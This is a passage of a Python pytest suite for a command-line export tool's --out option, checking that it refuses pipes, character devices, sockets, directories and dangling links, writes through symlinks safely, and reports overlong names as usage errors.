def test_out_refuses_a_fifo_and_leaves_it_a_fifo(site: Installation, tmp_path: Path) -> None:
    fifo = tmp_path / "plans.csv"
    os.mkfifo(fifo, 0o644)
    _refused_out(site, str(fifo), "a pipe (FIFO)")
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode) and os.listdir(tmp_path) == ["plans.csv"]


def test_out_refuses_character_devices_and_dev_null_stays_one(site: Installation, tmp_path: Path) -> None:
    before = os.stat("/dev/null")
    _refused_out(site, "/dev/null", "a character device")
    link = tmp_path / "null.csv"
    link.symlink_to("/dev/null")
    _refused_out(site, str(link), "a character device (through a symbolic link)")
    after = os.stat("/dev/null")
    assert stat.S_ISCHR(after.st_mode) and (after.st_ino, after.st_rdev) == (before.st_ino, before.st_rdev)
    assert os.path.islink(link) and os.listdir(tmp_path) == ["null.csv"]


def test_out_refuses_a_character_device_of_its_own(site: Installation, tmp_path: Path) -> None:
    # Made by the test (root may), so that the unfixed command replacing it harms nothing of the machine's.
    device = tmp_path / "device.csv"
    try:
        os.mknod(device, 0o600 | stat.S_IFCHR, os.makedev(1, 3))
    except PermissionError:
        pytest.skip("making a device needs root (CAP_MKNOD)")
    _refused_out(site, str(device), "a character device")
    assert stat.S_ISCHR(os.lstat(device).st_mode) and os.listdir(tmp_path) == ["device.csv"]


def test_out_refuses_standard_output_by_path(site: Installation) -> None:
    # In a process of its own, standard output is a pipe: /dev/stdout leads to it.
    _refused_out(site, "/dev/stdout", "a pipe (FIFO) (through a symbolic link)", process=True)


def test_out_refuses_a_directory_a_socket_and_a_link_to_nothing(site: Installation, tmp_path: Path) -> None:
    _refused_out(site, str(tmp_path), "a directory")
    server = socket.socket(socket.AF_UNIX)
    try:
        server.bind(str(tmp_path / "s"))
        _refused_out(site, str(tmp_path / "s"), "a socket")
    finally:
        server.close()
    (tmp_path / "gone.csv").symlink_to(tmp_path / "missing.csv")
    _refused_out(site, str(tmp_path / "gone.csv"), "a symbolic link to nothing")
    assert sorted(os.listdir(tmp_path)) == ["gone.csv", "s"]


def test_out_through_a_link_replaces_the_regular_file_it_leads_to(site: Installation, tmp_path: Path) -> None:
    token, _ = site.token("admin", ["export:run"])
    (tmp_path / "real").mkdir()
    real = tmp_path / "real" / "plans.csv"
    real.write_text("old\n", encoding="utf-8")
    link = tmp_path / "plans.csv"
    link.symlink_to(real)
    out = site.cli("plans", "--out", str(link), token=token)
    assert out.code == 0, out.err
    assert os.path.islink(link) and os.readlink(link) == str(real)  # the link stays, its file is replaced
    assert len(parse(real.read_text(encoding="utf-8"), "csv")) == len(live_ids(site, "insurance_plans"))
    assert stat.S_IMODE(real.stat().st_mode) == 0o600 and os.listdir(tmp_path / "real") == ["plans.csv"]


def test_out_names_and_paths_over_the_system_limits_are_usage_errors(site: Installation, tmp_path: Path) -> None:
    token, user_id = site.token("admin", ["export:run"])
    exports = len(site.audit(user_id, "export"))
    for target, message in [
        (tmp_path / ("n" * 252 + ".csv"), "--out: a name in the path is 256 bytes long; names may have at most 255"),
        (tmp_path / ("é" * 126 + ".csv"), "--out: a name in the path is 256 bytes long"),  # bytes, not characters
        (tmp_path.joinpath(*["d" * 200] * 25, "plans.csv"), "--out: the path is"),
    ]:
        out = site.cli("plans", "--out", str(target), token=token)
        assert out.code == 2 and message in out.err, out.err
        assert "internal error" not in out.err and str(target) not in out.err
    assert os.listdir(tmp_path) == [] and len(site.audit(user_id, "export")) == exports
    # The longest name allowed is written (the temporary file beside it gets a shortened name).
    longest = tmp_path / ("n" * 251 + ".csv")
    out = site.cli("plans", "--out", str(longest), token=token)
    assert out.code == 0, out.err
    assert os.listdir(tmp_path) == [longest.name]


def test_out_dash_is_standard_output(site: Installation) -> None:
    token, _ = site.token("admin", ["export:run"])
    out = site.cli("plans", "--out", "-", token=token)
    assert out.code == 0, out.err
    assert len(parse(out.out, "csv")) == len(live_ids(site, "insurance_plans"))
